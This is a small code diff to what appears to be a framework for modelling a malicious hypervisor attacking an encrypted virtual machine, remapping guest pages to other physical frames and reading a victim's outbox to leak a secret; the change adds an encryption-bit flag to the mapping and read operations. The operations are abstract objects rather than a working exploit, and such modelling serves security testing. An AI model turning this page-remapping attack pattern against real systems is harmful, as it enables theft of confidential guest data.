@@ -28,7 +28,7 @@ def serve_the_secret(target: Target) -> Attack:
     yield smash(victim.answer, victim.secret)
     yield (point(victim, victim.answer, victim.secret.spa),)
     yield LET_IT_RUN
-    yield (HostRead(victim.outbox.spa, PAGE_BYTES),)
+    yield (HostRead(victim.outbox.spa, PAGE_BYTES, encrypted=victim.c_bit),)
 
 
 def fresh_page(target: Target) -> Attack:
@@ -64,5 +64,5 @@ def smash(*pages: Page) -> tuple[HypervisorOperation, ...]:
 
 
 def point(household: Household, page: Page, spa: int) -> NestedMap:
-    """Back one page of a guest with another frame."""
-    return NestedMap(household.vm, page.gpa, spa, PAGE_BYTES)
+    """Back one page of a guest with another frame, mapped as its memory is."""
+    return NestedMap(household.vm, page.gpa, spa, PAGE_BYTES, encrypted=household.c_bit)
